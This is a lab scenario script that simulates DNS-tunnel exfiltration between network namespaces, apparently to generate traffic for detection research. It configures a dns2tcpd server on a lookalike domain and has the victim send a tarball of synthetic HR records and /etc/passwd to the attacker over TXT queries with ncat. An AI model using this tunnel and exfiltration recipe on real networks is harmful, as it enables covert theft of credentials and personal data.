# sourced by run-scenario.sh: the story played between the hosts
# TCP over DNS with dns2tcp: dns2tcpd on the attacker is the authoritative server of
# t.cdn-metrics-sync.com (resource "backup" = an ncat listener on the attacker's own loopback,
# 127.0.0.1:8443); the lab's resolver forwards that zone to it. The victim runs dns2tcpc through
# the resolver only (-z ZONE -r backup -k KEY RESOLVER, TXT queries) with a local port, lists the
# resources once, and sends a tar.gz of an HR file and /etc/passwd (about 4.6 KB) through the
# tunnel with ncat. The victim never sends a packet to the attacker. A benign client resolves
# corp.lan names meanwhile. About 60 s.
NET=172.31.228; ATT=66; VIC=10; CLI=23; DNS=2; SHELLPORT=0
TUNDOM=t.cdn-metrics-sync.com
TUNKEY='Kq7-sync-26'
DNSMASQ_EXTRA="--server=/$TUNDOM/$NET.66"
services() {
  mkdir -p "$RUN/victim/hr" "$RUN/att" "$RUN/d2t-root"; chmod 755 "$RUN/d2t-root"
  /usr/bin/python3 - "$RUN/victim/hr/employees.csv" <<'PY'
import random, sys
random.seed(7)
first = ["Anna", "Ben", "Chloe", "David", "Emma", "Felix", "Grace", "Hugo", "Iris", "Jonas", "Kira", "Liam"]
last = ["Meyer", "Schmidt", "Novak", "Rossi", "Dubois", "Jansen", "Kowalski", "Berg", "Costa", "Weber"]
with open(sys.argv[1], "w") as f:
    f.write("id,name,department,salary,iban\n")
    for i in range(1, 201):
        f.write("%d,%s %s,%s,%d,DE%020d\n" % (1000 + i, random.choice(first), random.choice(last),
                random.choice(["Sales", "IT", "HR", "Finance", "Ops"]), random.randrange(38000, 95000, 500), random.randrange(10**19, 10**20)))
PY
  ( cd "$RUN/victim" && tar czf "$RUN/victim/loot.tgz" hr/employees.csv -C "/etc/netns/$P-vic" passwd )
  cat > "$RUN/dns2tcpd.conf" <<EOF
listen = $A
port = 53
user = nobody
chroot = $RUN/d2t-root
domain = $TUNDOM
key = $TUNKEY
debug_level = 1
resources = backup:127.0.0.1:8443
EOF
  nsx att timeout 150 dns2tcpd -F -f "$RUN/dns2tcpd.conf" >"$RUN/logs/dns2tcpd.log" 2>&1 &
  sleep 1
}
sha() { sha256sum < "$1" | cut -d' ' -f1; }
play() {
  note "attacker $A (dns2tcpd 0.5.2, authoritative for $TUNDOM, resource backup -> 127.0.0.1:8443 on the attacker); victim $V (dns2tcpc through the resolver only); resolver $D (dnsmasq forwards $TUNDOM to $A); benign client $C"
  ( for i in 1 2 3 4 5 6 7 8; do nsx cli dig +short @$D portal.corp.lan >/dev/null || true; nsx cli dig +short @$D files.corp.lan AAAA >/dev/null || true; sleep 6; done ) & local bgpid=$!
  sleep 2
  note "1 the victim asks the tunnel server for its resources: dns2tcpc -z $TUNDOM -k KEY $D (TXT queries via the resolver)"
  nsx vic timeout 15 dns2tcpc -z $TUNDOM -k "$TUNKEY" $D >"$RUN/logs/dns2tcpc-list.log" 2>&1 || true
  sleep 3
  nsx att timeout 45 ncat -l 127.0.0.1 8443 > "$RUN/att/loot.tgz" 2>"$RUN/logs/ncat-l.log" &
  local lpid=$!
  note "2 tunnel: dns2tcpc -z $TUNDOM -k KEY -r backup -l 2222 -T TXT $D (local port 2222 on the victim's loopback; the bridge sees only DNS)"
  nsx vic timeout 45 dns2tcpc -z $TUNDOM -k "$TUNKEY" -r backup -l 2222 -T TXT $D >"$RUN/logs/dns2tcpc.log" 2>&1 &
  local cpid=$!
  sleep 3
  note "3 exfiltration through the tunnel: ncat 127.0.0.1 2222 < loot.tgz ($(stat -c %s "$RUN/victim/loot.tgz") bytes: hr/employees.csv and passwd; sha256 $(sha "$RUN/victim/loot.tgz"))"
  nsx vic timeout 35 ncat --send-only 127.0.0.1 2222 < "$RUN/victim/loot.tgz" 2>"$RUN/logs/ncat-c.log" || true
  wait $lpid || true
  note "   received by the listener behind dns2tcpd: $(stat -c %s "$RUN/att/loot.tgz") bytes sha256 $(sha "$RUN/att/loot.tgz")"
  sleep 3
  kill $cpid 2>/dev/null || true; wait $cpid 2>/dev/null || true
  note "4 dns2tcpc is stopped; the benign client resolved portal.corp.lan (A) and files.corp.lan (AAAA) every ~6 s throughout"
  wait $bgpid || true
}
